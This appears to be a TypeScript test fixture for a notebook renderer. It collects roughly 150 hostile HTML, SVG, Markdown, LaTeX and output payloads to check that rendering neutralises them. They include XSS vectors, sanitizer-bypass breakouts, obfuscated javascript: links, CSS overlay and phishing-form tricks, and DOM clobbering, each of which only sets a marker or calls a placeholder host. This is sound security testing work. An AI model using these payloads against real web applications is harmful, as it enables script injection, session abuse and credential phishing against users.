/** Outputs and cells as somebody who means harm would store them; each one tries one thing. */
import type { Output } from '@panya/domain/notebook/notebook.ts'

/** Whoever runs a script leaves this in the page and in the frame. */
export const MARK = 'marked'
/** No address with this in it may ever be asked for. */
export const MARKER = 'marker-of-a-stranger'

const OUTSIDE = `http://${MARKER}.example/`
const INSIDE = `/api/${MARKER}/`
const SCRIPT = `top.${MARK}=self.${MARK}=1`
const ASKS = `fetch('${INSIDE}script')`
const NOWHERE = 'data:,'
const COVER = 'position:fixed;inset:0;width:100vw;height:100vh;background:#fff;z-index:99999'

/** Shown as HTML output, as Markdown output and in a Markdown cell. */
export const HOSTILE_HTML: Record<string, string> = {
  script: `<script>${SCRIPT}</script>`,
  'script from elsewhere': `<script src="${OUTSIDE}a.js"></script>`,
  'script from our own house': `<script src="${INSIDE}a.js"></script>`,
  'module script': `<script type="module">${SCRIPT};${ASKS}</script>`,
  'script in strange letters': `<ScRiPt/x>${SCRIPT}</sCrIpT >`,
  'script in a script': `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  'picture that fails': `<img src="${NOWHERE}" onerror="${SCRIPT}">`,
  'picture from elsewhere': `<img src="${OUTSIDE}a.png">`,
  'picture that signs out': '<img src="/api/auth/signout">',
  'picture from our interface': `<img src="${INSIDE}a.png">`,
  'picture a folder up': `<img src="../../api/${MARKER}/up.png">`,
  'picture without a scheme': `<img src="//${MARKER}.example/a.png">`,
  'picture with backslashes': `<img src="\\\\${MARKER}.example\\a.png">`,
  'picture by srcset': `<img srcset="${INSIDE}b.png 1x" src="${NOWHERE}">`,
  'picture with sources': `<picture><source srcset="${INSIDE}c.png"><img></picture>`,
  'old name of a picture': `<image src="${NOWHERE}" onerror="${SCRIPT}">`,
  'low resolution picture': `<img lowsrc="${INSIDE}d.png" dynsrc="${INSIDE}d.png">`,
  'drawing that loads': `<svg onload="${SCRIPT}"></svg>`,
  'drawing with a script': `<svg><script>${SCRIPT}</script></svg>`,
  'drawing with a moving link': `<svg><a><animate attributeName="href" values="javascript:${SCRIPT}"/><text y="20">x</text></a></svg>`,
  'drawing that sets a handler': `<svg><set attributeName="onmouseover" to="${SCRIPT}"/></svg>`,
  'drawing that uses another': `<svg><use href="${INSIDE}e.svg#x"/></svg>`,
  'drawing with a picture': `<svg><image href="${INSIDE}f.png" width="9" height="9"/></svg>`,
  'drawing with foreign parts': `<svg><foreignObject><iframe src="javascript:${SCRIPT}"></iframe></foreignObject></svg>`,
  'drawing with a style': `<svg><style>@import url(${INSIDE}g.css)</style></svg>`,
  'formula with a link': `<math href="javascript:${SCRIPT}"><mi>x</mi></math>`,
  'formula that breaks out': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  'no-script that breaks out': `<noscript><p title="</noscript><img src=${NOWHERE} onerror=${SCRIPT}>"></noscript>`,
  'title that breaks out': `<title><p title="</title><img src=${NOWHERE} onerror=${SCRIPT}>"></title>`,
  'text area that breaks out': `<textarea><p title="</textarea><img src=${NOWHERE} onerror=${SCRIPT}>"></textarea>`,
  'template with a shadow': `<div><template shadowrootmode="open"><script>${SCRIPT}</script></template></div>`,
  'select that breaks out': `<select><template><img src="${NOWHERE}" onerror="${SCRIPT}"></template></select>`,
  'form in a form': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${SCRIPT} src=${NOWHERE}>">`,
  'text that never ends': `<xmp><p title="</xmp><img src=${NOWHERE} onerror=${SCRIPT}>"></xmp>`,
  'frame with a script': `<iframe src="javascript:${SCRIPT}"></iframe>`,
  'frame with a page': `<iframe srcdoc="&lt;script&gt;${SCRIPT}&lt;/script&gt;"></iframe>`,
  'frame of our own house': `<iframe src="${INSIDE}h"></iframe>`,
  object: `<object data="${INSIDE}i.html" type="text/html"></object>`,
  'object with text': '<object data="data:text/html,<script>top.marked=1</script>"></object>',
  embed: `<embed src="${INSIDE}j.swf">`,
  applet: `<applet code="${INSIDE}k.class"></applet>`,
  'link to a script': `<a href="javascript:${SCRIPT}">press</a>`,
  'link to a script with a tab': `<a href="java&#9;script:${SCRIPT}">press</a>`,
  'link to a script in numbers': `<a href="&#106;&#97;vascript:${SCRIPT}">press</a>`,
  'link to a script behind a control sign': `<a href="&#1;javascript:${SCRIPT}">press</a>`,
  'link to text as a page': '<a href="data:text/html,<script>top.marked=1</script>">press</a>',
  'link to the page itself': `<a href="/api/auth/signout" target="_top">press</a>`,
  'link that tells elsewhere': `<a href="https://example.org/" ping="${INSIDE}ping">press</a>`,
  'link that names the opener': `<a href="https://example.org/" target="_parent" rel="opener">x</a>`,
  'map over a picture': `<img usemap="#m" src="${NOWHERE}"><map name="m"><area href="javascript:${SCRIPT}" coords="0,0,9,9"></map>`,
  form: `<form action="${INSIDE}l" method="post"><input name="password" type="password"><button>Sign in</button></form>`,
  'button of a form': `<button formaction="javascript:${SCRIPT}">press</button>`,
  'picture button': `<input type="image" src="${INSIDE}m.png" formaction="${INSIDE}m">`,
  'field that focuses itself': `<input autofocus onfocus="${SCRIPT}">`,
  'box that focuses itself': `<div tabindex="1" autofocus onfocus="${SCRIPT}" contenteditable>x</div>`,
  'page that refreshes': `<meta http-equiv="refresh" content="0;url=${INSIDE}n">`,
  'page that refreshes into a script': `<meta http-equiv="refresh" content="0;url=javascript:${SCRIPT}">`,
  'page with another policy': `<meta http-equiv="content-security-policy" content="img-src 'none'">`,
  'page with another base': `<base href="${OUTSIDE}" target="_top">`,
  'style sheet from elsewhere': `<link rel="stylesheet" href="${INSIDE}o.css">`,
  'link that fetches ahead': `<link rel="prefetch" href="${INSIDE}p"><link rel="preload" as="script" href="${INSIDE}p.js"><link rel="modulepreload" href="${INSIDE}q.js">`,
  'style over everything': `<style>*{display:none!important}.jp-Toolbar{position:fixed}</style>`,
  'style that imports': `<style>@import "${INSIDE}r.css";p{background:url(${INSIDE}s.png)}</style><p>x</p>`,
  'style on a table that covers': `<style>#T_1{${COVER}}</style><table id="T_1"><tr><td>x</td></tr></table>`,
  'style on a table that asks': `<style>#T_2 td{background:url(${INSIDE}t.png);list-style:url(${INSIDE}t.png)}</style><table id="T_2"><tr><td>x</td></tr></table>`,
  'background by attribute': `<table background="${INSIDE}u.png"><tr><td background="${INSIDE}u.png">x</td></tr></table>`,
  'background by style': `<p style="background:url(${INSIDE}v.png)">x</p>`,
  'background by escaped style': `<p style="background:\\75 rl(${INSIDE}w.png)">x</p>`,
  'background by a set': `<p style="background-image:image-set('${INSIDE}x.png' 1x)">x</p>`,
  'cursor, list, border, mask, content by style': `<ul style="cursor:url(${INSIDE}y.cur),auto;list-style-image:url(${INSIDE}y.png);border-image:url(${INSIDE}y.png) 1;mask:url(${INSIDE}y.svg);content:url(${INSIDE}y.png);filter:url(${INSIDE}y.svg#a)"><li>x</li></ul>`,
  'cover that is fixed': `<div style="${COVER}">Sign in again</div>`,
  'cover in escaped letters': `<div style="pos\\69tion:fi\\78 ed;inset:0;background:#fff">x</div>`,
  'cover behind a comment': `<div style="/*;*/position/**/:fixed;top:0;left:0;width:999px;height:999px">x</div>`,
  'cover that is important': `<div style="position:fixed !important;top:0;left:0;width:100%;height:100%">x</div>`,
  'cover that is absolute': `<div style="position:absolute;top:-3000px;left:-3000px;width:9000px;height:9000px;background:red">x</div>`,
  'cover that sticks': `<div style="position:sticky;top:0;height:100vh;background:#fff">x</div>`,
  'cover by margins': `<div style="margin:-900px;width:3000px;height:2000px;background:#fff">x</div>`,
  'cover by a transform': `<div style="transform:translate(-50%,-300px) scale(90);background:#fff">x</div><p style="translate:0 -400px;scale:50;rotate:9deg">x</p>`,
  'cover by a shadow': `<div style="box-shadow:0 0 0 3000px #fff;outline:2000px solid #fff;text-shadow:0 -300px #000">x</div>`,
  'cover by a float': `<div style="float:left;shape-outside:circle(900px);width:90000px;height:90000px;margin-top:-500px;background:#fff">x</div>`,
  'cover by letters': `<p style="font-size:4000px;line-height:90000px;letter-spacing:-400px;text-indent:-900px">cover</p>`,
  'cover in borrowed clothes': `<div class="jp-Dialog lm-Widget" style="background:#fff"><div class="jp-Dialog-content">Sign in</div></div>`,
  'menu in borrowed clothes': `<div class="lm-Menu lm-Widget"><ul class="lm-Menu-content"><li>x</li></ul></div>`,
  'button in borrowed clothes': `<button class="jp-mod-accept" data-commandlinker-command="notebook:delete-cell" data-commandlinker-args="{}">press</button>`,
  'names that hide the document': `<img name="documentElement"><form id="location" name="body"><input name="attributes"></form><a id="marked" name="marked" href="x">x</a>`,
  'name of a setting': `<div id="jupyter-config-data">{"baseUrl":"${OUTSIDE}"}</div>`,
  'name of the main place': `<div id="main" name="top"></div><a id="early-frame"></a>`,
  'voice for a screen reader': `<div role="alert" aria-live="assertive" aria-label="Sign in again" aria-owns="main">x</div>`,
  'key that presses': `<a accesskey="s" href="#x" onclick="${SCRIPT}">x</a>`,
  'details that open': `<details open ontoggle="${SCRIPT}"><summary>x</summary>y</details>`,
  'dialog and popover': `<dialog open style="position:fixed;inset:0">x</dialog><div popover="manual" id="pop">x</div>`,
  'film that fails': `<video src="${NOWHERE}" onerror="${SCRIPT}"><source onerror="${SCRIPT}" src="${INSIDE}z.mp4"></video>`,
  'film with a poster': `<video poster="${INSIDE}poster.png" controls></video>`,
  'sound that plays': `<audio autoplay src="${INSIDE}sound.mp3"><track src="${INSIDE}sound.vtt" default></audio>`,
  'text that runs': `<marquee onstart="${SCRIPT}">x</marquee>`,
  'body that loads': `<body onload="${SCRIPT}" background="${INSIDE}body.png"><p>x</p></body>`,
  frameset: `<frameset onload="${SCRIPT}"><frame src="${INSIDE}frame"></frameset>`,
  'movement that ends': `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationend="${SCRIPT}">x</p>`,
  'element of one’s own': `<x-panya is="x" onpointerrawupdate="${SCRIPT}">x</x-panya>`,
  'zero bytes': `<scr\u0000ipt>${SCRIPT}</scr\u0000ipt><img src=\u0000"${INSIDE}zero.png">`,
  'comment for old browsers': `<!--[if gte IE 4]><script>${SCRIPT}</script><![endif]--><!--><img src="${NOWHERE}" onerror="${SCRIPT}">-->`,
  'section that is none': `<![CDATA[<img src="${NOWHERE}" onerror="${SCRIPT}">]]>`,
  'attribute that never ends': `<img src="${NOWHERE}" alt="<p title='"onerror="${SCRIPT}"x='>`,
  'fence and portal': `<fencedframe></fencedframe><portal src="${INSIDE}portal"></portal><bgsound src="${INSIDE}bg.mp3">`,
}

const display = (
  data: Record<string, unknown>,
  metadata: Record<string, unknown> = {},
): Output => ({
  output_type: 'display_data',
  data,
  metadata,
})

const failure = (ename: string, evalue: string, ...traceback: string[]): Output => ({
  output_type: 'error',
  ename,
  evalue,
  traceback,
})

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20" ${attributes}>${inside}</svg>`

const TAG = `<img src="${NOWHERE}" onerror="${SCRIPT}">`
const RED = '\u001B[31m'

/** What is not HTML, or comes in another wrapping. */
export const HOSTILE_OUTPUTS: Record<string, Output> = {
  javascript: display({ 'application/javascript': `${SCRIPT};${ASKS}` }),
  'javascript by its other name': display({ 'text/javascript': SCRIPT, 'text/plain': 'x' }),
  'svg with a script': display({ 'image/svg+xml': svg(`<script>${SCRIPT}</script>`) }),
  'svg that loads': display({ 'image/svg+xml': svg('', `onload="${SCRIPT}"`) }),
  'svg with pictures': display({
    'image/svg+xml': svg(`<image href="${INSIDE}svg.png"/><use xlink:href="${OUTSIDE}a.svg#a"/>`),
  }),
  'svg with a style sheet': display({
    'image/svg+xml': `<?xml-stylesheet href="${INSIDE}svg.css"?>${svg('<style>@import "a.css"</style>')}`,
  }),
  'svg with a page in it': display({
    'image/svg+xml': svg(
      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${INSIDE}fo.png" onerror="${SCRIPT}"/></body></foreignObject>`,
    ),
  }),
  'svg that is a page': display({ 'image/svg+xml': `<html><script>${SCRIPT}</script></html>` }),
  'svg that never ends': display({ 'image/svg+xml': `<svg>"'><img src=x onerror=${SCRIPT}>` }),
  'picture that is a tag': display({ 'image/png': `"><img src=x onerror=${SCRIPT}>` }),
  'picture of a strange size': display(
    { 'image/png': 'iVBORw0KGgo=' },
    { 'image/png': { width: 1e9, height: 1e9, unconfined: true }, needs_background: '"><b>' },
  ),
  'page of its own': display(
    { 'text/html': `<p>alone</p><script>${SCRIPT}</script>` },
    { isolated: true },
  ),
  'page of its own by type': display(
    { 'text/html': `<div style="${COVER}">x</div>` },
    { 'text/html': { isolated: true } },
  ),
  'html that is a list': display({ 'text/html': [`<script>${SCRIPT}</script>`, TAG] }),
  'type of a vendor': display({ 'application/vnd.stranger+html': TAG, 'text/html': TAG }),
  'type that is a tag': display({ [TAG]: TAG, 'text/plain': 'x' }),
  'type of the prototype': display({ constructor: TAG, toString: TAG, 'text/plain': 'x' }),
  'our own error type': display({ 'application/vnd.jupyter.stderr': `${RED}${TAG}` }),
  'our own print type': display({ 'application/vnd.jupyter.stdout': `${RED}${TAG}` }),
  mermaid: display({ 'text/vnd.mermaid': `graph TD; a["${TAG}"]` }),
  pdf: display({ 'application/pdf': 'JVBERi0xLjQ=' }),
  'json of tags': display({
    'application/json': { [TAG]: TAG, link: `javascript:${SCRIPT}`, list: [TAG] },
  }),
  'json lines of tags': display({ 'text/jsonl': `{"a":${JSON.stringify(TAG)}}\n"x"` }),
  'json with a root': display(
    { 'application/json': { a: 1 } },
    { 'application/json': { root: TAG, expanded: true } },
  ),
  'text that is a tag': display({ 'text/plain': `${TAG}<script>${SCRIPT}</script>` }),
  'text with a script as a link': display({
    'text/plain': `javascript://${MARKER}.example/%0a${SCRIPT} data:text/html,<script>${SCRIPT}</script>`,
  }),
  'text in colours with tags': display({ 'text/plain': `${RED}${TAG}\u001B[38;2;1;2;3;"m${TAG}` }),
  'print of tags': { output_type: 'stream', name: 'stdout', text: `${RED}${TAG}\n${TAG}` },
  'warning of tags': {
    output_type: 'stream',
    name: 'stderr',
    text: `${TAG}\n/api/${MARKER}/path.py:7 javascript://x/%0a${SCRIPT}`,
  },
  'error of tags': failure(TAG, TAG, `${RED}${TAG}`, `File "/api/${MARKER}/a.py", line 3`, TAG),
  'error without a trace': failure(TAG, `<script>${SCRIPT}</script>`),
  'formula with a script as a link': display({ 'text/latex': `$\\href{javascript:${SCRIPT}}{x}$` }),
  'formula with a link to text': display({ 'text/latex': '$\\href{data:text/html,x}{x}$' }),
  'formula with a style': display({
    'text/latex': '$\\style{position:fixed;top:0;left:0;font-size:900px;z-index:9}{x}$',
  }),
  'formula with a class and a name': display({
    'text/latex': '$\\class{jp-Dialog}{\\cssId{documentElement}{x}}\\cssId{mjx-main}{y}$',
  }),
  'formula as large as a house': display({
    'text/latex': '$\\rule{9999em}{9999em}\\kern-9999em x$',
  }),
  'formula without an end': display({ 'text/latex': '$\\def\\x{\\x\\x}\\x$' }),
  'formula that asks for more': display({
    'text/latex': `$\\require{${INSIDE}tex}\\includegraphics{${INSIDE}tex.png}$`,
  }),
  'formula of tags': display({ 'text/latex': `$${TAG}$ ${TAG}` }),
  'markdown link to a script': display({ 'text/markdown': `[press](javascript:${SCRIPT})` }),
  'markdown picture': display({
    'text/markdown': `![x](${INSIDE}md.png "t") ![y](${OUTSIDE}y.png)`,
  }),
  'markdown that names its link': display({
    'text/markdown': `[a][b] <javascript:${SCRIPT}>\n\n[b]: data:text/html,<script>${SCRIPT}</script>`,
  }),
  'markdown code that is a tag': display({
    'text/markdown': `\`\`\`"><img/src=x/onerror=${SCRIPT}>\nx\n\`\`\``,
  }),
  'markdown heading of tags': display({ 'text/markdown': `# ${TAG} <b id=top name=top>x</b>` }),
}
